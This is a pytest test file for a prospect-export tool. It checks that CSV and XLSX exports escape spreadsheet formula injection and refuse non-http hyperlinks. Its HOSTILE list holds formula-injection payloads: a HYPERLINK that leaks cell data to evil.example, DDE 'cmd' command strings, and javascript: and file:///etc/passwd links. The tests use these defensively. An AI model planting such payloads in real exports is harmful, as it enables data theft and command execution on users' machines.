"""Finding 3: names written by strangers never become live formulas or links in an export."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from tuoke.exporting import csv_safe, write_prospects_csv, write_prospects_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def prospects(names, urls=None):
    n = len(names)
    return pd.DataFrame({
        "branch": ["杭州分行"] * n, "rank": list(range(1, n + 1)), "company_id": [f"name-{i:016x}" for i in range(n)],
        "name": names, "score": [9.0 - i * 0.1 for i in range(n)], "segment": ["new_to_bank"] * n,
        "products": [["政采贷"]] * n, "reasons": [["=1+1 中标"]] * n, "uscc": [None] * n,
        "evidence_urls": urls or [["https://ok.example/a"]] * n,
    })


def test_xlsx_text_cells_are_strings_never_formulas(tmp_path):
    path = write_prospects_xlsx(prospects(HOSTILE), tmp_path / "p.xlsx")
    sheet = openpyxl.load_workbook(path)["杭州分行"]
    cells = [sheet.cell(row=r, column=2) for r in range(2, 2 + len(HOSTILE))]
    assert [c.value.replace("_x000D_", "\r") for c in cells] == HOSTILE
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
    reasons = [sheet.cell(row=r, column=6) for r in range(2, 2 + len(HOSTILE))]
    assert all(c.data_type == "s" for c in reasons)


def test_xlsx_hyperlinks_only_for_http_urls(tmp_path):
    urls = [["javascript:alert(1)"], ["file:///etc/passwd"], ["https://ok.example/a"], ['http://x/"onclick']]
    path = write_prospects_xlsx(prospects(["甲公司", "乙公司", "丙公司", "丁公司"], urls), tmp_path / "p.xlsx")
    sheet = openpyxl.load_workbook(path)["杭州分行"]
    link_col = [c.value for c in sheet[1]].index("证据链接") + 1
    links = [sheet.cell(row=r, column=link_col).hyperlink for r in range(2, 6)]
    assert links[0] is None and links[1] is None and links[3] is None
    assert links[2] is not None and links[2].target == "https://ok.example/a"


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_fields_starting_with_a_formula_character_are_prefixed(value):
    assert csv_safe(value) == "'" + value
    assert csv_safe("杭州甲科技有限公司") == "杭州甲科技有限公司"
    assert csv_safe(-3.5) == -3.5  # numbers stay numbers


def test_csv_export_escapes_every_hostile_name():
    stream = io.StringIO()
    write_prospects_csv(prospects(HOSTILE), stream=stream)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert [r["name"] for r in rows] == ["'" + v for v in HOSTILE]
    assert all(r["reasons"].startswith("'") for r in rows)


def test_query_csv_quotes_a_bare_carriage_return(tmp_path):
    """Issue 22: `tuoke query --format csv` wrote a value holding a bare \\r unquoted, so a CSV reader
    split one row in two."""
    import subprocess
    import sys

    import duckdb

    db = tmp_path / "tuoke.duckdb"
    con = duckdb.connect(str(db))
    con.execute("CREATE TABLE t AS SELECT '杭州甲' || chr(13) || '科技有限公司' AS name, 1 AS n "
                "UNION ALL SELECT 'x' || chr(10) || 'y', 2")
    con.close()
    proc = subprocess.run([sys.executable, "-c", "from tuoke.cli import main; main()", "query",
                           "SELECT name, n FROM t ORDER BY n", "--format", "csv", "--db", str(db)],
                          capture_output=True, check=False, timeout=60)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
    assert rows == [["name", "n"], ["杭州甲\r科技有限公司", "1"], ["x\ny", "2"]]
